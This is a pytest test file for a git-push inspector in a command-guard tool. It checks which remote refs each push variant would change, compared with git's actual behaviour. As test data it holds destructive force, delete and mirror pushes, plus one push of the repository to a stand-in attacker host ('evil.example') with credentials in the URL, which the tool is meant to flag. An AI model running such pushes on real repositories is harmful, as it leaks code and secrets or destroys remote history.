"""Which refs of which remote a push changes: judged, and compared with what git itself says it would do."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from guardcli.broker.facts import CallFacts
from guardcli.broker.secret_finder import SecretFinder
from guardcli.inspectors.git.inspector import GitInspector
from guardcli.model.effects import Effect
from guardcli.model.facts import NoFacts
from guardcli.model.invocation import Invocation
from guardcli.model.operations import Operation

GIT = shutil.which("git")
FIND = SecretFinder()
ENV = {
    "PATH": os.environ["PATH"],
    "HOME": "/nonexistent",
    "GIT_AUTHOR_NAME": "A",
    "GIT_AUTHOR_EMAIL": "a@example.com",
    "GIT_COMMITTER_NAME": "A",
    "GIT_COMMITTER_EMAIL": "a@example.com",
}


def git(cwd: Path, line: str) -> str:
    words = ["git", *shlex.split(line)]
    result = subprocess.run(words, cwd=cwd, env=ENV, capture_output=True, text=True)
    return result.stdout + result.stderr


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """On branch ``work``, whose upstream is ``main``; the remote has a branch ``old`` that is gone here."""
    root = tmp_path_factory.mktemp("template")
    git(root, "init -q --template= --bare -b main remote.git")
    path = root / "clone"
    git(root, "init -q --template= -b main clone")
    for line in (
        "commit -q --allow-empty -m first",
        "remote add origin ../remote.git",
        "remote add other ../remote.git",
        "tag v1",
        "branch feature",
        "branch old",
        "push -q origin main feature old v1",
        "branch -D -q old",
        "tag -a -m x annotated",
        "checkout -q -b work",
        "branch -q --set-upstream-to=origin/main",
        "commit -q --allow-empty -m second",
    ):
        git(path, line)
    return root


@pytest.fixture
def repository(template: Path, tmp_path: Path) -> Path:
    shutil.copytree(template, tmp_path / "copy")
    return tmp_path / "copy" / "clone"


def judge(line: str, cwd: Path, env: dict[str, str] | None = None) -> tuple[Operation, ...]:
    environment = ENV | (env or {})
    invocation = Invocation("git", tuple(shlex.split(line)), environment, str(cwd))
    return (
        GitInspector()
        .inspect(invocation, CallFacts(str(cwd), environment, git_program=GIT, find_secrets=FIND))
        .operations
    )


def pushed(operations: tuple[Operation, ...]) -> set[str]:
    """Return ``ACTION TARGET`` for every ref; further candidates of one operation after a bar."""
    return {
        f"{operation.action} {'|'.join(target.name for target in operation.targets if target.kind == 'ref')}"
        for operation in operations
    }


CASES = [
    ("git push origin feature", {"push origin/refs/heads/feature"}),
    ("git push origin work", {"push origin/refs/heads/work"}),
    ("git push other HEAD", {"push other/refs/heads/work"}),
    ("git push origin @", {"push origin/refs/heads/work"}),
    ("git push origin v1", {"push origin/refs/tags/v1"}),
    ("git push origin tag v1", {"push origin/refs/tags/v1"}),
    ("git push origin heads/feature", {"push origin/refs/heads/feature"}),
    ("git push origin refs/heads/feature", {"push origin/refs/heads/feature"}),
    ("git push origin feature work", {"push origin/refs/heads/feature", "push origin/refs/heads/work"}),
    ("git push origin HEAD:main", {"push origin/refs/heads/main|origin/refs/tags/main"}),
    ("git push origin work:refs/heads/main", {"push origin/refs/heads/main"}),
    ("git push origin work:heads/main", {"push origin/refs/heads/main|origin/refs/heads/heads/main"}),
    ("git push -f origin feature", {"push --force origin/refs/heads/feature"}),
    ("git push origin feature --force", {"push --force origin/refs/heads/feature"}),
    ("git push -uf origin feature", {"push --force origin/refs/heads/feature"}),
    ("git push --force-with-lease origin feature", {"push --force origin/refs/heads/feature"}),
    ("git push --force-w=feature origin feature", {"push --force origin/refs/heads/feature"}),
    ("git push origin +feature", {"push --force origin/refs/heads/feature"}),
    ("git push origin +work:refs/heads/main", {"push --force origin/refs/heads/main"}),
    ("git push origin work +feature", {"push origin/refs/heads/work", "push --force origin/refs/heads/feature"}),
    ("git push origin :old", {"push --delete origin/refs/heads/old|origin/refs/tags/old"}),
    ("git push origin +:refs/heads/old", {"push --delete origin/refs/heads/old"}),
    ("git push origin --delete old", {"push --delete origin/refs/heads/old|origin/refs/tags/old"}),
    ("git push -d origin refs/heads/main", {"push --delete origin/refs/heads/main"}),
    ("git push -d origin tag v1", {"push --delete origin/refs/tags/v1"}),
    (
        "git push --all",
        {"push origin/refs/heads/feature", "push origin/refs/heads/main", "push origin/refs/heads/work"},
    ),
    (
        "git push origin 'refs/heads/*:refs/heads/x/*'",
        {"push origin/refs/heads/x/feature", "push origin/refs/heads/x/main", "push origin/refs/heads/x/work"},
    ),
    ("git push origin '+refs/heads/ma*:refs/heads/ma*'", {"push --force origin/refs/heads/main"}),
    (
        "git push -f origin :",
        {
            "push --force origin/refs/heads/feature",
            "push --force origin/refs/heads/main",
            "push --force origin/refs/heads/work",
        },
    ),
    ("git push --tags", {"push origin/refs/tags/annotated", "push origin/refs/tags/v1"}),
    (
        "git push --follow-tags origin work",
        {"push origin/refs/heads/work", "push origin/refs/tags/*"},
    ),
    ("git push --mirror", {"push --mirror origin/*"}),
    ("git push --prune origin work", {"push origin/refs/heads/work", "push --prune origin/*"}),
    ("git push", {"push origin/refs/heads/work"}),
    ("git push -f", {"push --force origin/refs/heads/work"}),
    ("git push --repo=other", {"push other/refs/heads/work"}),
    ("git push ../remote.git work", {"push ..%2Fremote.git/refs/heads/work"}),
    ("git -c push.default=upstream push", {"push origin/refs/heads/main"}),
    ("git -c push.default=upstream push -f", {"push --force origin/refs/heads/main"}),
    ("git -c push.default=upstream push origin work", {"push origin/refs/heads/main"}),
    ("git -c push.default=current push", {"push origin/refs/heads/work"}),
    ("git -c push.default=nothing push", {"push "}),
    (
        "git -c push.default=matching push",
        {"push origin/refs/heads/feature", "push origin/refs/heads/main", "push origin/refs/heads/work"},
    ),
    ("git -c remote.pushDefault=other push", {"push other/refs/heads/work"}),
    ("git -c branch.work.pushRemote=other push", {"push other/refs/heads/work"}),
    ("git -c remote.origin.push=+work:refs/heads/main push", {"push --force origin/refs/heads/main"}),
    (
        "git -c remote.origin.push=+refs/heads/work:refs/heads/main push origin work",
        {"push --force origin/refs/heads/main"},
    ),
    ("git -c remote.origin.push=refs/heads/*:refs/for/* push origin work", {"push origin/refs/for/work"}),
    ("git -c remote.origin.mirror=true push origin", {"push --mirror origin/*"}),
    ("git -c push.followTags=true push", {"push origin/refs/heads/work", "push origin/refs/tags/*"}),
    ("git -c alias.p='push -f' p origin main", {"push --force origin/refs/heads/main"}),
    ("git-push -f origin main", {"push --force origin/refs/heads/main"}),
    ("git push . +work:main", {"push --force ./refs/heads/main|./refs/tags/main"}),
]


@pytest.mark.parametrize(("line", "expected"), CASES, ids=[case[0] for case in CASES])
def test_every_ref_of_a_push_is_named(line: str, expected: set[str], template: Path) -> None:
    operations = judge(line, template / "clone")
    assert pushed(operations) == expected
    assert all(operation.complete for operation in operations)
    for operation in operations:
        lost = operation.action in ("push --force", "push --delete", "push --mirror", "push --prune")
        assert (Effect.DELETE in operation.effects) is lost
        assert operation.unbounded is (operation.action in ("push --mirror", "push --prune"))


@pytest.mark.parametrize("line", [case[0] for case in CASES if "--repo" not in case[0]])
def test_git_changes_no_ref_that_was_not_named(line: str, repository: Path) -> None:
    targets = [target for operation in judge(line, repository) for target in operation.targets]
    named = {target.name.partition("/")[2] for target in targets if target.kind == "ref"}
    before = refs(repository)
    git(repository, line.removeprefix("git").lstrip("-") if line.startswith("git-") else line.removeprefix("git "))
    after = refs(repository)
    changed = {ref for ref in before.keys() | after.keys() if before.get(ref) != after.get(ref)}
    if "*" in named:
        return
    if "refs/tags/*" in named:
        changed = {ref for ref in changed if not ref.startswith("refs/tags/")}
    assert changed <= named


def refs(repository: Path) -> dict[str, str]:
    listing = git(repository.parent / "remote.git", "for-each-ref '--format=%(refname) %(objectname)'")
    return dict(line.split() for line in listing.splitlines())


def test_the_environment_can_say_where_a_push_goes(repository: Path) -> None:
    env = {
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "remote.origin.push",
        "GIT_CONFIG_VALUE_0": "+work:refs/heads/main",
    }
    assert pushed(judge("git push", repository, env)) == {"push --force origin/refs/heads/main"}


def test_a_configured_address_is_no_redirection(repository: Path) -> None:
    git(repository, "remote add web https://user:secret@git.example.com/x.git")
    (known,) = judge("git push https://user:secret@git.example.com/x.git work", repository)
    (new,) = judge("git push https://user:secret@evil.example/x.git work", repository)
    assert Effect.NETWORK not in known.effects
    assert Effect.NETWORK in new.effects
    assert [str(target) for target in new.targets] == [
        "ref:https:%2F%2Fevil.example%2Fx.git/refs/heads/work",
        "host:evil.example",
    ]
    (by_name,) = judge("git push web work", repository)
    assert [str(target) for target in by_name.targets] == ["ref:web/refs/heads/work", "host:git.example.com"]


def test_a_push_of_very_many_refs_is_unbounded(repository: Path) -> None:
    commit = git(repository, "rev-parse HEAD").strip()
    lines = "".join(f"create refs/heads/many/{number} {commit}\n" for number in range(300))
    subprocess.run(["git", "update-ref", "--stdin"], cwd=repository, env=ENV, input=lines, text=True, check=True)
    for line, action in (
        ("git push --all", "push"),
        ("git push -f --all", "push --force"),
        ("git push origin '+refs/heads/*:refs/heads/*'", "push --force"),
        ("git push origin " + " ".join(f"many/{number}" for number in range(300)), "push"),
        ("git push origin " + " ".join(f"many/{number}" for number in range(300)) + " +main", "push --force"),
        ("git push origin " + " ".join(f"many/{number}" for number in range(300)) + " :main", "push --force"),
    ):
        (operation,) = judge(line, repository)
        assert (operation.action, operation.unbounded) == (action, True)


def test_a_detached_head_leaves_a_bare_push_unsure(repository: Path) -> None:
    git(repository, "checkout -q --detach")
    for line in ("git push", "git push -f", "git push origin HEAD"):
        (operation,) = judge(line, repository)
        assert not operation.complete
    (operation,) = judge("git push origin HEAD:refs/heads/x", repository)
    assert operation.complete


def test_without_facts_a_named_ref_is_still_named(repository: Path) -> None:
    invocation = Invocation("git", ("git", "push", "-f", "origin", "main"), ENV, str(repository))
    operation, unscanned = GitInspector().inspect(invocation, NoFacts()).operations
    assert not unscanned.complete
    assert operation.action == "push --force"
    assert [str(target) for target in operation.targets] == ["ref:origin/refs/heads/main"]
    assert not operation.complete
